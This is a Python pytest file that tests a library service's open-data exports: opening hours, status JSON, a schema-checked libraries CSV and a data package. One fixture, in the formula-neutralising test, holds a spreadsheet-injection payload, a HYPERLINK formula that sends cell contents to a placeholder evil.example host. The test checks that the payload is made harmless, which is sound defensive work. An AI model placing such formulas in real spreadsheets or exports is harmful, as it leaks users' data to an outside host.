import csv
import io
import json
import re
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest

from librarysite.model import ZONE, Library
from librarysite.moment import Now
from librarysite.notation import read_uprn
from librarysite.opendata.datafile import harmless, json_file
from librarysite.opendata.events import event_data, event_fields
from librarysite.opendata.hours import opening_hours
from librarysite.opendata.libraries import COLUMNS, libraries_table
from librarysite.opendata.package import data_package
from librarysite.opendata.status import status_record
from librarysite.problems import Mistake
from librarysite.reading.load import load
from librarysite.schedule.agenda import Agenda
from tests.support.opendatacases import NOW, service

SCHEMA = json.loads((Path(__file__).parents[1] / "data" / "libraries.table-schema.json").read_text())
Row = dict[str, str]


@pytest.fixture
def library(tmp_path: Path) -> Library:
    """Return the service of the cases."""
    return service(tmp_path)


def data(files: dict[str, bytes]) -> Any:
    """Return what the one JSON file says."""
    ((address, content),) = files.items()
    assert re.fullmatch(r"data/[a-z-]+\.json", address)
    assert content.endswith(b"}\n")
    return json.loads(content)


def by_id(found: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    """Return records by their id."""
    return {record["id"]: record for record in found}


# --- opening-hours.json


def days(library: Library, branch: str, today: date = NOW.today) -> dict[str, tuple[str, str | None, str]]:
    """Return each day of a branch: the rule, the reason and the times, short."""
    record = by_id(data(opening_hours(library, today))["libraries"])[branch]
    short = {"staffed": "", "self_service": " alone"}
    return {
        day["date"]: (
            day["kind"],
            day["reason"],
            ", ".join(f"{i['opens']}-{i['closes']}{short[i['kind']]}" for i in day["intervals"]),
        )
        for day in record["days"]
    }


def test_opening_hours_of_single_days(library: Library) -> None:
    """Each day has the times, the rule that decided and its reason, worked out by hand."""
    north = days(library, "north")
    assert {day: north[day] for day in (
        "2026-11-23", "2026-11-24", "2026-11-27", "2026-11-29", "2026-12-24", "2026-12-25", "2026-12-28",
        "2026-12-29", "2027-01-01", "2027-02-10", "2027-06-07", "2027-06-08",
    )} == {
        "2026-11-23": ("closure", "Boiler", "08:00-08:30 alone, 10:00-17:00, 17:00-20:00 alone"),
        "2026-11-24": ("week", None, "09:00-13:00, 14:00-19:00"),
        "2026-11-27": ("week", None, "20:00-24:00 alone"),
        "2026-11-29": ("week", None, ""),
        "2026-12-24": ("closure", "Christmas", "09:00-13:00"),
        "2026-12-25": ("closure", "Christmas", ""),
        "2026-12-28": ("changed_hours", None, "08:00-09:00 alone, 09:00-17:00, 17:00-20:00 alone"),
        "2026-12-29": ("changed_hours", "Short day", "10:00-12:00, 13:00-15:00"),
        "2027-01-01": ("holiday", "New Year’s Day", ""),
        "2027-02-10": ("closure", "Training", ""),
        "2027-06-07": ("week", None, "10:00-16:00"),
        "2027-06-08": ("week", None, ""),
    }  # fmt: skip


def test_opening_hours_cover_thirteen_months(library: Library) -> None:
    """There are 396 days, the first today's, for each library in service; the closed one is left out."""
    record = data(opening_hours(library, NOW.today))
    assert (record["first"], record["last"]) == ("2026-11-23", "2027-12-23")
    assert [branch["id"] for branch in record["libraries"]] == ["north", "formula", "unlisted"]
    assert {len(branch["days"]) for branch in record["libraries"]} == {396}
    assert record["time_zone"] == "Europe/London"
    assert record["libraries"][0]["url"] == "https://libraries.example/libraries/north/"


def test_library_that_closes_for_good_is_closed_from_that_day(library: Library) -> None:
    """A library is closed for good from the first day of the month that is known."""
    found = days(service_without_flood(library), "formula")
    assert found["2027-03-22"] == ("week", None, "09:00-17:00")
    assert found["2027-04-05"][0] == "closed_for_good"


def service_without_flood(library: Library) -> Library:
    """Return the service without the closure that nobody knows the end of."""
    closures = tuple(c for c in library.closures if c.id != "flood-2027")
    return Library(library.service, library.branches, closures, library.changed_hours)


def test_first_day_is_today(library: Library) -> None:
    """The days begin with the one for which the file is made."""
    assert data(opening_hours(library, date(2027, 7, 1)))["first"] == "2027-07-01"


# --- status.json


def test_status_of_today(library: Library) -> None:
    """Each library tells today's hours and the closure in force."""
    record = data(status_record(library, NOW))
    assert record["built_at"] == "2026-11-23T09:00:00+00:00"
    found = by_id(record["libraries"])
    assert list(found) == ["north", "formula", "unlisted"]
    assert found["north"] == {
        "id": "north",
        "name": "North Library",
        "url": "https://libraries.example/libraries/north/",
        "date": "2026-11-23",
        "kind": "closure",
        "reason": "Boiler",
        "intervals": [
            {"opens": "08:00", "closes": "08:30", "kind": "self_service"},
            {"opens": "10:00", "closes": "17:00", "kind": "staffed"},
            {"opens": "17:00", "closes": "20:00", "kind": "self_service"},
        ],
        "closure": {
            "id": "boiler-2026",
            "reason": "Boiler",
            "starts": "2026-11-23T08:30:00+00:00",
            "ends": "2026-11-23T10:00:00+00:00",
            "review": None,
            "still_open": "The book drop",
        },
    }
    assert (found["formula"]["kind"], found["formula"]["closure"]) == ("week", None)


@pytest.mark.parametrize(
    ("time", "closed"), [("08:29", False), ("08:30", True), ("09:59", True), ("10:00", False)]
)
def test_closure_is_in_force_from_its_first_to_before_its_last_moment(
    library: Library, time: str, closed: bool
) -> None:
    """A closure of 8:30am to 10am is in force at 8:30am and not at 10am."""
    now = Now(datetime.fromisoformat(f"2026-11-23T{time}").replace(tzinfo=ZONE))
    found = by_id(data(status_record(library, now))["libraries"])
    assert bool(found["north"]["closure"]) == closed


def test_status_lists_what_is_now_and_coming(library: Library) -> None:
    """Six weeks ahead, that is before 9am on 4 January: training in February and what is over are not listed."""
    record = data(status_record(library, NOW))
    closures = by_id(record["closures"])
    assert list(closures) == ["boiler-2026", "christmas-2026", "flood-2027", "secret-2026"]
    assert closures["christmas-2026"]["libraries"] == ["north", "formula", "unlisted"]
    assert closures["christmas-2026"]["ends"] == "2026-12-28T00:00:00+00:00"
    assert closures["flood-2027"] == {
        "id": "flood-2027",
        "reason": "Flood",
        "starts": "2026-12-31T00:00:00+00:00",
        "ends": None,
        "review": "2027-01-15",
        "still_open": None,
        "libraries": ["formula"],
        "published": None,
        "updated": None,
        "sample": False,
    }
    changed = by_id(record["changed_hours"])
    assert list(changed) == ["north.20261229", "open-2026"]
    assert changed["north.20261229"]["hours"] == [
        {"opens": "10:00", "closes": "12:00"},
        {"opens": "13:00", "closes": "15:00"},
    ]
    assert changed["open-2026"]["hours"] is None
    (notice,) = record["notices"]
    told = (notice["id"], notice["level"], notice["text"], notice["ends"], notice["review"], notice["sample"])
    assert told == ("lift-2026", "disruption", "The lift is broken.", None, "2026-12-31", True)


def test_moments_of_summer_have_the_offset_of_summer(tmp_path: Path) -> None:
    """A closure in June begins at +01:00."""
    status = "closures:\n  - {id: june, branches: north, on: 2027-06-10, reason: June}\n"
    record = data(status_record(service(tmp_path, status=status), Now(datetime(2027, 6, 1, tzinfo=ZONE))))
    told = (record["built_at"], record["closures"][0]["starts"], record["closures"][0]["ends"])
    assert told == ("2027-06-01T00:00:00+01:00", "2027-06-10T00:00:00+01:00", "2027-06-11T00:00:00+01:00")


# --- libraries.csv


def rows(library: Library, today: date = NOW.today) -> list[Row]:
    """Return the rows of the table."""
    content = libraries_table(library, today)["data/libraries.csv"].decode()
    assert content.count("\r\n") == content.count("\n")
    return list(csv.DictReader(io.StringIO(content)))


def faults(fields: list[dict[str, Any]], row: Row) -> list[str]:
    """Return what a table schema says against a row: type, required, pattern and enum (empty is no value)."""
    types = {"string": ".*", "integer": r"[+-]?[0-9]+", "year": "[0-9]{4}"}
    forms = {"default": ".*", "uri": r"https?://[^\s]+", "email": r"[^\s@]+@[^\s@]+\.[^\s@]+"}
    found = [] if [field["name"] for field in fields] == list(row) else ["columns"]
    for field in fields:
        name, limits = field["name"], field.get("constraints", {})
        cell = row.get(name, "")
        if not cell:
            found += [f"{name}: required"] if limits.get("required") else []
            continue
        for kind, fits in (
            ("type", re.fullmatch(types[field["type"]], cell)),
            ("format", re.fullmatch(forms[field["format"]], cell)),
            ("pattern", re.fullmatch(limits.get("pattern", ".*"), cell)),
            ("enum", cell in limits.get("enum", [cell])),
        ):
            found += [] if fits else [f"{name}: {kind}"]
    return found


def faults_of_table(fields: list[dict[str, Any]], table: list[Row]) -> list[str]:
    """Return what a schema says against all rows, the values that may stand only once among it."""
    found = [fault for row in table for fault in faults(fields, row)]
    for field in fields:
        cells = [row[field["name"]] for row in table if row.get(field["name"])]
        if field.get("constraints", {}).get("unique") and len(set(cells)) < len(cells):
            found.append(f"{field['name']}: unique")
    return found


def test_table_is_as_its_schema_says(library: Library, sample: Library) -> None:
    """The columns, types and values of both services' tables are those of the Libraries Hacked schema."""
    assert [field["name"] for field in SCHEMA["fields"]] == list(COLUMNS)
    assert faults_of_table(SCHEMA["fields"], rows(library)) == []
    assert faults_of_table(SCHEMA["fields"], rows(sample)) == []
    assert len(rows(sample)) == 10


@pytest.mark.parametrize(
    ("change", "fault"),
    [
        ({"Postcode": ""}, "Postcode: required"),
        ({"Postcode": "lu1 2ng"}, "Postcode: pattern"),
        ({"Statutory": "yes"}, "Statutory: enum"),
        ({"Type of library": "IL"}, "Type of library: enum"),
        ({"Year closed": "2020-01"}, "Year closed: type"),
        ({"Unique property reference number": "1.0E+10"}, "Unique property reference number: type"),
        ({"URL": "libraries/north/"}, "URL: format"),
        ({"Email address": "nobody"}, "Email address: format"),
        ({"More": "1"}, "columns"),
    ],
)
def test_schema_notices_faults(library: Library, change: Row, fault: str) -> None:
    """Each kind of fault is noticed, so the test above can fail."""
    assert faults(SCHEMA["fields"], rows(library)[0] | change) == [fault]


def test_schema_notices_what_stands_twice(library: Library) -> None:
    """A value that may stand only once is noticed when it stands twice."""
    field = {"name": "A", "type": "string", "format": "default", "constraints": {"unique": True}}
    assert faults_of_table([field], [{"A": "1"}, {"A": "1"}]) == ["A: unique"]
    assert faults_of_table([field], [{"A": "1"}, {"A": "2"}]) == []


def test_row_of_a_library(library: Library) -> None:
    """The row of North, every cell by hand: the week in force, and the coming exceptions by their dates."""
    assert {name: cell for name, cell in rows(library)[0].items() if cell} == {
        "Local authority": "Testshire Council",
        "Library name": "North Library",
        "Address 1": "1 North Road",
        "Address 2": "Testtown",
        "Postcode": "LU1 2NG",
        "Unique property reference number": "000123456789",
        "Statutory": "Yes",
        "Type of library": "LAL",
        "Year opened": "1964",
        "Monday staffed hours": "09:00-17:00",
        "Tuesday staffed hours": "09:00-13:00,14:00-19:00",
        "Wednesday staffed hours": "09:00-17:00",
        "Thursday staffed hours": "09:00-17:00",
        "Saturday staffed hours": "10:00-13:00",
        "Monday unstaffed hours": "08:00-09:00,17:00-20:00",
        "Friday unstaffed hours": "20:00-24:00",
        "Special hours": (
            "2026-11-23: 08:00-08:30,2026-11-23: 10:00-20:00,"
            "2026-12-10: 09:00-12:00,2026-12-10: 13:00-17:00,"
            "2026-12-24: 09:00-13:00,2026-12-25: X,2026-12-26: X,2026-12-27: X,2026-12-28: 08:00-20:00,"
            "2026-12-29: 10:00-12:00,2026-12-29: 13:00-15:00,2027-01-01: X,2027-02-10: X,2027-03-26: X,"
            "2027-03-28: X,2027-03-29: X,2027-05-03: X,2027-05-31: X,2027-08-30: X"
        ),
        "Co-located": "Yes",
        "Co-located with": "The museum",
        "Notes": "New weekly hours from 7 June 2027",
        "URL": "https://libraries.example/libraries/north/",
        "Email address": "north@libraries.example",
    }


def test_row_of_a_library_closed_for_good(library: Library) -> None:
    """A closed library keeps its row with the year and the reason; it has no hours any more."""
    (row,) = [row for row in rows(library) if row["Library name"] == "Old Library"]
    assert (row["Year closed"], row["Notes"]) == ("2020", "The lease ended")
    assert [name for name, cell in row.items() if cell and "hours" in name] == []


def test_library_that_will_close_says_so(library: Library) -> None:
    """Before the day a library has no “Year closed”, and its notes tell when it closes."""
    row = rows(library)[1]
    assert (row["Year closed"], row["Notes"]) == ("", "Closes for good: April 2027")
    assert rows(library, date(2027, 4, 1))[1]["Year closed"] == "2027"


def test_library_without_what_the_schema_requires_is_left_out(library: Library) -> None:
    """The schema takes no library without a postcode."""
    assert "Library without a postcode" not in [row["Library name"] for row in rows(library)]
    assert len(rows(library)) == 3


def test_no_cell_is_a_formula(library: Library) -> None:
    """Names and addresses that a spreadsheet would run get an apostrophe; quotes and commas stay in the cell."""
    row = rows(library)[1]
    assert row["Library name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"South")'
    assert (row["Address 1"], row["Address 2"]) == ('\'+1 South Road, "The Cottage"', "'@Testtown")
    assert [cell for row in rows(library) for cell in row.values() if cell.startswith(tuple("=+-@"))] == []


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_beginning_of_a_formula_is_made_harmless(first: str) -> None:
    """What a spreadsheet may take for a formula is prefixed; the same sign later in a cell is not."""
    assert harmless(f"{first}1") == f"'{first}1"
    assert harmless(f"1{first}") == f"1{first}"


@pytest.mark.parametrize("text", ["1.00081E+11", "", "12a", "1234567890123", "٣"])
def test_property_number_must_be_digits(text: str) -> None:
    """A number that a spreadsheet has spoilt is the editor's to put right."""
    with pytest.raises(Mistake, match="property reference number"):
        read_uprn(text)


def test_undecided_holiday_is_not_told_as_open(tmp_path: Path) -> None:
    """Where each library decides about bank holidays and has not yet, the day is closed and the notes say so."""
    own = (Path(__file__).parents[1] / "cases" / "opendata" / "service.yaml").read_text()
    text = f"{own}holidays:\n  unless_told: decide\n"
    row = rows(service(tmp_path, service=text, status="closures: []\n"))[0]
    assert row["Special hours"].startswith("2026-12-25: X,2026-12-26: X,2026-12-28: X,2027-01-01: X")
    assert "Not decided yet: 25 December 2026." in row["Notes"]


# --- datapackage.json, and all of them


def test_package_describes_the_files(library: Library) -> None:
    """The package names the five files, which exist, the schema, the licence and the sources."""
    package = data(data_package(library, event_fields()))
    assert re.fullmatch(r"[a-z0-9._-]+", package["name"])
    assert package["licenses"] == [
        {
            "name": "OGL-UK-3.0",
            "title": "Open Government Licence v3.0",
            "path": "https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/",
        }
    ]
    assert package["sources"] == [
        {"title": "The register", "path": "https://register.example/"},
        {"title": "The council's own records"},
    ]
    made = {
        *libraries_table(library, NOW.today),
        *opening_hours(library, NOW.today),
        *status_record(library, NOW),
    }
    made |= {*event_data(Agenda(library, NOW))}
    assert {f"data/{resource['path']}" for resource in package["resources"]} == made
    assert package["resources"][0]["schema"].endswith("/schema-librarydata/master/libraries.json")


def test_package_names_no_licence_where_none_is_stated(tmp_path: Path) -> None:
    """Without ``open_data`` nothing is said about a licence or sources."""
    own = (
        (Path(__file__).parents[1] / "cases" / "opendata" / "service.yaml").read_text().split("open_data:")[0]
    )
    package = data(data_package(service(tmp_path, service=own), event_fields()))
    assert not {"licenses", "sources"} & set(package)


def test_same_data_gives_the_same_bytes(sample: Library, root: Path, now: Now) -> None:
    """The same data gives the same bytes, also when it is read anew."""
    again = load(root).library
    assert again is not None
    for make in (opening_hours, libraries_table):
        assert make(sample, now.today) == make(again, now.today)
    assert status_record(sample, now) == status_record(again, now)
    assert data_package(sample, event_fields()) == data_package(again, event_fields())
    assert event_data(Agenda(sample, now)) == event_data(Agenda(again, now))


def test_json_is_utf_8_as_people_write_it() -> None:
    """Letters stay letters, and the file ends with its line."""
    assert json_file({"b": "Ünï 📚", "a": 1}) == '{\n  "b": "Ünï 📚",\n  "a": 1\n}\n'.encode()
